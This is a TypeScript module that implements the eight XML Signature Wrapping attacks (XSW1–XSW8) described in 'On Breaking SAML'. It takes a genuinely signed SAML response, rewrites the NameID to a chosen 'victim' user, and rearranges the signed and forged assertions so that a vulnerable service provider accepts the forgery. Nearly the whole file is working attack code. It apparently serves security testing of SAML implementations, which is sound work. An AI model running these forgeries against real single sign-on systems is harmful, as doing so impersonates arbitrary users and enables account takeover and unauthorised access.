/**
 * The eight classic signature wrappings (Somorovsky et al., "On Breaking SAML"), built out of a
 * response that was really signed.
 */

/** Which signature an attack moves: that of the response, or that of the assertion. */
export interface Wrapping {
  name: keyof typeof builders;
  signedPart: "response" | "assertion";
}
export const wrappings: readonly Wrapping[] = [
  { name: "XSW1", signedPart: "response" },
  { name: "XSW2", signedPart: "response" },
  { name: "XSW3", signedPart: "assertion" },
  { name: "XSW4", signedPart: "assertion" },
  { name: "XSW5", signedPart: "assertion" },
  { name: "XSW6", signedPart: "assertion" },
  { name: "XSW7", signedPart: "assertion" },
  { name: "XSW8", signedPart: "assertion" },
];

/**
 * The signed part stays in the document, unchanged; beside or around it stands one that names
 * `victim`.
 */
export function wrapResponse(xml: string, { name, signedPart }: Wrapping, victim: string): string {
  const assertion = firstMatch(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, xml);
  const original = signedPart === "response" ? xml : assertion;
  // The assertion of a signed response may have a signature of its own, further inside.
  const signature =
    signedPart === "response"
      ? firstMatch(signaturePattern, xml.replace(assertion, ""))
      : firstMatch(signaturePattern, assertion);
  const forged = original
    .replace(/ ID="[^"]*"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`);
  const unsigned = {
    original: original.replace(signature, ""),
    forged: forged.replace(signature, ""),
  };
  return builders[name]({ xml, original, forged, unsigned, signature });
}

interface Parts {
  xml: string;
  original: string;
  forged: string;
  unsigned: { original: string; forged: string };
  signature: string;
}
const builders = {
  // The real response inside the signature of an evil one; beside it in the second.
  XSW1: ({ forged, unsigned, signature }: Parts) =>
    forged.replace(signature, insertBeforeEnd(signature, unsigned.original)),
  XSW2: ({ forged, unsigned, signature }: Parts) =>
    forged.replace(signature, `${unsigned.original}${signature}`),
  // An evil assertion before the real one, and around it.
  XSW3: ({ xml, original, unsigned }: Parts) =>
    xml.replace(original, `${unsigned.forged}${original}`),
  XSW4: ({ xml, original, unsigned }: Parts) =>
    xml.replace(original, insertBeforeEnd(unsigned.forged, original)),
  // The evil one with the real signature; the real one at the end, inside the signature, in an
  // extension, in the signature's object.
  XSW5: ({ xml, original, forged, unsigned }: Parts) =>
    insertBeforeEnd(xml.replace(original, forged), unsigned.original),
  XSW6: ({ xml, original, forged, unsigned, signature }: Parts) =>
    xml.replace(original, forged.replace(signature, insertBeforeEnd(signature, unsigned.original))),
  XSW7: ({ xml, original, unsigned }: Parts) =>
    xml.replace(original, `<samlp:Extensions>${unsigned.forged}</samlp:Extensions>${original}`),
  XSW8: ({ xml, original, forged, unsigned, signature }: Parts) =>
    xml.replace(
      original,
      forged.replace(
        signature,
        insertBeforeEnd(signature, `<ds:Object>${unsigned.original}</ds:Object>`),
      ),
    ),
};

const signaturePattern = /<ds:Signature[ >][\s\S]*?<\/ds:Signature>/;
const insertBeforeEnd = (element: string, inner: string): string =>
  element.replace(/<\/[\w:]+>\s*$/, (end) => `${inner}${end}`);

function firstMatch(pattern: RegExp, text: string): string {
  const [first] = pattern.exec(text) ?? [];
  if (first === undefined) throw new Error(`${pattern.source} is not in the response`);
  return first;
}
